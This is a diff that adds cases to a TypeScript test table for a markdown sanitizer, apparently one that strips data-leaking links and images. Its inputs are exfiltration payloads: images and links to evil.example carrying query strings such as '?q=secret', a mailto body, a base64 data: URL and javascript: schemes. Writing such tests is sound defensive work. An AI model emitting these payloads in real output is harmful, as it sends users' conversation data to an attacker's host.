@@ -15,6 +15,7 @@ const removed: Readonly<Record<string, readonly [text: string, left: string]>> =
   'an image with spaces in its address': [`![a](${evil}?q=all that you said).`, '.'],
   'an image that does not end': [`Look: ![a](${leak}`, 'Look: '],
   'an image without a scheme': ['![a](//evil.example/x).', '.'],
+  'a bare address in a link that does not end': ['[a](www.evil.example/?q=secret\n', 'a'],
   'an image with backslashes': [String.raw`![a](https:\\evil.example/x).`, '.'],
   'an image in a link': [`[![a](${evil})](https://evil.example/?q=1) b`, ' b'],
   'an image in a link that may stay': [
@@ -40,6 +41,10 @@ const removed: Readonly<Record<string, readonly [text: string, left: string]>> =
   'a link to a document in its address': ['[docs](data:text/html;base64,PHNjcmlwdD4=)', 'docs'],
   'mail with a text': ['[write](mailto:a@evil.example?body=secret)', 'write'],
   'a definition and its uses': [`![a][x] and [b][x]\n\n[x]: ${evil} "title"\nmore`, '![a][x] and [b][x]\n\n\nmore'],
+  'a definition of a link': ['[x]: [b](https://evil.example/?q)javascript:\n', '\n'],
+  'a link behind a definition': [`[x]: see [b](${leak})`, '[x]: see b'],
+  'an image behind what begins like a definition': [`[x]: see ![b](${leak})\nmore`, '[x]: see \nmore'],
+  'a definition behind an address': [`<${leak}>[a b]: //evil.example`, ''],
   'a definition on two lines': [`> [x]:\n  <${evil}>\n`, '> \n'],
   'a definition deep in quotations': [`${'> '.repeat(20)}[x]: ${evil}`, '> '.repeat(20)],
   'a definition over two lines of a quotation': [`> [x]:\n> ${evil}`, '> '],
